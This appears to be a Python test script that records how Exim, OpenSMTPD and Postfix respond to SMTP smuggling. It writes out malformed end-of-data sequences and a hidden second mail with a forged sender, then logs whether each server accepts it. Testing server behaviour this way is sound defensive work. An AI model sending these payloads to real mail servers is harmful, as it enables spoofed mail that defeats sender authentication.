# SPDX-License-Identifier: Apache-2.0
"""A second mail hidden in the first one's text behind something that is almost an end of data.

Whether it is one is the server's business: the client notes the replies, and they are the truth.
"""

import socket
import time

import world
from clients import Wire
from recording import story
from servers import Exim, OpenSmtpd, Postfix
from stories.dialogue import note

FORMS = [b"\n.\n", b"\n.\r\n", b"\r\n.\n", b"\r.\r", b"\r\n.\r"]
TAKEN = [250, 250, 250, 354, 250]       # the first mail, MAIL, RCPT, DATA, the second mail
TAKEN_CHUNK = [250, 250, 250, 250, 500]  # BDAT's reply is the second mail's; the dot is no command
SMUGGLED = "smuggled@example.org"
QUIET = 1.0


def behind(subject, chunk):
    """The hidden mail as a client would send it, piece by piece. In a chunk it needs no 354 (Exim refuses a
    text that does not wait for it), and the dot that ends the outer mail is a command of its own."""
    text = f"From: {SMUGGLED}\r\nSubject: {subject}\r\n\r\nThis text came in another mail's text.\r\n"
    envelope = [f"MAIL FROM:<{SMUGGLED}>", "RCPT TO:<alice@example.jp>"]
    return [*envelope, f"BDAT {len(text)} LAST", text + "."] if chunk else [*envelope, "DATA", text + "."]


def send(r, form, mail, hidden, line_end, patient):
    """One connection; returns the codes of all replies behind 354. Patient: the hidden commands come one by
    one, each after what the server says to the one before."""
    def talk():
        wire = Wire(r.client)
        wire.reply(220)
        wire.say(f"EHLO {r.client_name}", 250)
        wire.say(f"MAIL FROM:<{mail.mail_from}>", 250)
        wire.say("RCPT TO:<user@example.jp>", 250)
        wire.say("DATA", 354)
        text = [mail.raw.replace(b"\r\n", line_end).removesuffix(line_end), form]
        codes = []
        for piece in [text, *([line] for line in hidden)] if patient else [text + hidden]:
            wire.send(*piece)
            codes += replies(wire)
        wire.send("QUIT")
        replies(wire)
        wire.close()
        return codes
    codes = world.call("out", talk)
    time.sleep(0.3)
    return codes


def replies(wire):
    wire.socket.settimeout(QUIET)
    codes = []
    try:
        while True:
            code = wire.reply()
            if not code:
                break
            codes.append(code)
    except (socket.timeout, ConnectionError):
        pass
    wire.replies = wire.socket.makefile("rb")   # a file object is unusable after a time-out
    return codes


def try_all(r, server, line_end=b"\r\n", patient=False, chunk=False):
    mails = [note(r, number) for number in range(1, len(FORMS) + 1)]
    subjects = [f"{r.name}: smuggled {number}" for number in range(1, len(FORMS) + 1)]
    with r.dns(), server, r.tap():
        answered = [send(r, form, mail, behind(subject, chunk), line_end, patient)
                    for form, mail, subject in zip(FORMS, mails, subjects)]
    for form, mail, subject, codes in zip(FORMS, mails, subjects, answered):
        mail.raw = None
        session = r.truth.session(r.client, helo=r.client_name, replies=codes)
        taken = codes == (TAKEN_CHUNK if chunk else TAKEN)
        outcome = "accepted" if codes and codes[0] == 250 else "refused" if codes else "unfinished"
        session.facts["outcome"] = {"accepted": "mail"}.get(outcome, outcome)
        session.mail(mail, outcome, smuggling={"form": form.hex(),
                                               "verdict": "accepted" if taken else "attempted"})
        if taken:
            mail.mail_from, mail.rcpt_to, mail.facts = SMUGGLED, ["alice@example.jp"], {
                "subject": subject, "from": SMUGGLED}
            session.mail(mail, rcpt_replies=[250])


@story("smuggling-exim", "2025-06-13 03:00:00")
def smuggling_exim(r):
    try_all(r, Exim(r.roots["exim"]))


@story("smuggling-exim-lf", "2025-06-13 03:05:00")
def smuggling_exim_lf(r):
    """A mail whose first line ends in LF puts Exim (since 4.97.1, and 4.96 as Debian patches it) into the
    mode that it was in for every mail before: LF ends a line."""
    try_all(r, Exim(r.roots["exim"]), line_end=b"\n", chunk=True)


@story("smuggling-opensmtpd", "2025-06-13 03:10:00")
def smuggling_opensmtpd(r):
    try_all(r, OpenSmtpd(r.roots["opensmtpd"]))


@story("smuggling-opensmtpd-patient", "2025-06-13 03:15:00")
def smuggling_opensmtpd_patient(r):
    """It refuses commands sent ahead; those that wait for their turn it takes."""
    try_all(r, OpenSmtpd(r.roots["opensmtpd"]), patient=True)


@story("smuggling-postfix-old", "2025-06-13 03:20:00")
def smuggling_postfix_old(r):
    """As every Postfix did before December 2023."""
    try_all(r, Postfix(r.roots["postfix"], {"smtpd_forbid_bare_newline": "no"}))


@story("smuggling-postfix-strict", "2025-06-13 03:30:00")
def smuggling_postfix_strict(r):
    strict = {"smtpd_forbid_bare_newline": "yes", "smtpd_forbid_bare_newline_exclusions": ""}
    try_all(r, Postfix(r.roots["postfix"], strict))
